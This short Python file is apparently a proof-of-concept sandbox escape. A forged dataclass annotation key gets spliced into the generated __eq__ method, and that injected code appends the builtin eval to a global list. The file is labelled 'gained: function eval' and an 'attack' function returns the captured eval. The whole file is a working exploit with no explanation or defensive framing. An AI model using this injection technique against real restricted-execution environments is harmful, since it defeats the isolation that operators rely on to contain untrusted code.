# gained: function eval
from dataclasses import dataclass
from typing import Any

SINK: list[Any] = []


@dataclass(init=False, repr=False)
class Odd:
    a: int = 0
    __annotations__["a==SINK.append(eval) or self.a"] = int


def attack(path: str) -> Any:
    Odd() == Odd()
    return SINK[0]
